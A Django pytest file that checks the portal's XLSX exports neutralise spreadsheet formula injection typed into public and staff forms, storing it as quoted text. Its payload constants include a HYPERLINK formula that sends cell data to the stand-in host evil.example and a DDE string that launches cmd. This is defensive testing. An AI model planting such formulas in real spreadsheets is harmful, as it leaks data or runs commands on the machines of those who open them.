"""Spreadsheet formula injection: text typed into public and staff forms
reaches every XLSX export as plain text, never as a live formula."""

import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from consultations.models import Category, Question
from core.xlsx import is_formula_like, new_workbook, to_bytes
from education.models import Registration
from tests.education.factories import SessionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
DDE = "cmd|' /C calc'!A0"
PLUS = "+1+1"
AT = "@SUM(1)"
PAYLOADS = [HYPERLINK, DDE, PLUS, AT]
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def _fresh_limits(settings, tmp_path):
    cache.clear()  # the public forms' rate limits
    settings.MEDIA_ROOT = tmp_path / "media"


def texts_without_formulas(content: bytes) -> str:
    """Every text of the workbook, after checking no cell is a formula and
    every formula-like text carries the quote prefix (safe when edited)."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
                assert cell.data_type != "f", where
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if is_formula_like(cell.value):
                        assert cell.quotePrefix, where
    return "\n".join(texts)


def test_kernel_keeps_text_as_text_and_numbers_as_numbers():
    wb = new_workbook()
    ws = wb.active
    values = [HYPERLINK, "  =1+1", "\t=1+1", "\r=1", "-3", -3, 1.5, dt.date(2021, 3, 2), "보통 글"]
    ws.append(values)
    ws.cell(row=2, column=1, value="=2+2")  # assigned directly, not appended
    reopened = load_workbook(io.BytesIO(to_bytes(wb))).active
    row = list(reopened[1])
    # A bare CR comes back as LF from the standard XML parser and as CR from lxml
    # (which openpyxl uses when it is installed): text either way, never a formula.
    assert [c.value for c in row[:5]] in (
        [*values[:3], "\n=1", "-3"],
        [*values[:3], "\r=1", "-3"],
    )
    assert [c.data_type for c in row] == ["s"] * 5 + ["n", "n", "d", "s"]
    assert [c.quotePrefix for c in row] == [True] * 5 + [False] * 4
    assert reopened["A2"].data_type == "s" and reopened["A2"].value == "=2+2"


def test_streaming_sheets_are_neutralised_when_rows_are_appended():
    wb = new_workbook(write_only=True)
    ws = wb.create_sheet("목록")
    ws.append([HYPERLINK, PLUS, -3])
    row = list(load_workbook(io.BytesIO(to_bytes(wb)))["목록"][1])
    assert [(c.value, c.data_type) for c in row] == [(HYPERLINK, "s"), (PLUS, "s"), (-3, "n")]
    assert row[0].quotePrefix and row[1].quotePrefix


def test_roster_keeps_a_sign_up_organisation_as_text(client, staff_client, manager_user):
    session = SessionFactory(capacity=10)
    for n, payload in enumerate(PAYLOADS):
        response = client.post(
            session.public_url(),
            {
                "name": f"김시민{n}",
                "phone": f"010-1234-56{n:02d}",
                "email": f"citizen{n}@example.com",
                "organisation": payload,
                "consent": "on",
            },
        )
        assert response.status_code == 302, response.content.decode()[:500]
    assert Registration.objects.filter(session=session).count() == len(PAYLOADS)
    url = f"/education/staff/sessions/{session.pk}/roster.xlsx"
    masked = texts_without_formulas(staff_client.get(url).content)
    assert all(p in masked for p in PAYLOADS)
    staff_client.force_login(manager_user)
    token_url = staff_client.post(f"{url}?full=1", {"purpose": "업무 처리"}).url
    full = texts_without_formulas(staff_client.get(token_url).content)
    assert all(p in full for p in PAYLOADS) and "김시민0" in full


def test_consultation_export_keeps_a_question_and_its_answer_as_text(
    client, staff_client, manager_user, django_capture_on_commit_callbacks
):
    response = client.post(
        "/ask/",
        {
            "category": Category.objects.get(name="설립").pk,
            "title": HYPERLINK,
            "body": f"{DDE}\n{PLUS}",
            "name": "홍길동",
            "email": "hong@example.com",
            "phone": "",
            "cooperative_name": "",
            "consent": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    question = Question.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(f"/consultations/questions/{question.pk}/", {"answer": AT})
    question.refresh_from_db()
    assert question.consultation is not None
    staff_client.force_login(manager_user)
    with django_capture_on_commit_callbacks(execute=True):
        job_url = staff_client.post("/exports/consultations/", {"fmt": "xlsx"}).url
    response = staff_client.get(f"{job_url}download/")
    assert response["Content-Disposition"].startswith("attachment")
    texts = texts_without_formulas(b"".join(response.streaming_content))
    assert HYPERLINK in texts and DDE in texts and AT in texts


def test_report_xlsx_keeps_a_narrative_as_text(staff_client, demo):
    from center.models import ProgramUnit
    from reports import exporters

    unit = ProgramUnit.objects.filter(area__fiscal_year=demo).first()
    response = staff_client.post(
        f"/reports/2021/narratives/{unit.pk}/",
        {"target_group": PLUS, "overview": DDE, "narrative": f"{HYPERLINK}\n{AT}\n- 정상 문장"},
    )
    assert response.status_code == 302, response.content.decode()[:800]
    content = exporters.render(demo, "xlsx")
    texts = texts_without_formulas(content)
    assert all(p in texts for p in PAYLOADS) and "- 정상 문장" in texts
    # Numbers stay numbers with their formats.
    budget = load_workbook(io.BytesIO(content))["예산집행현황"]
    amounts = [c for c in budget["C"][2:] if isinstance(c.value, int)]
    assert amounts and all(c.data_type == "n" and c.number_format == "#,##0" for c in amounts)


def test_import_template_has_no_formula(staff_client):
    response = staff_client.get("/consultations/import/template.xlsx")
    assert response["Content-Disposition"].startswith("attachment")
    assert "홍길동" in texts_without_formulas(response.content)


def test_only_the_kernel_creates_workbooks():
    """Every XLSX the portal writes goes through `core.xlsx`."""
    offenders = []
    pattern = re.compile(r"\bWorkbook\s*\(|from openpyxl import [^\n]*\bWorkbook\b")
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "node_modules", "tests", "bench"}:
            continue
        if relative == Path("core/xlsx.py"):
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(str(relative))
    assert offenders == [], "build workbooks with core.xlsx.new_workbook()"
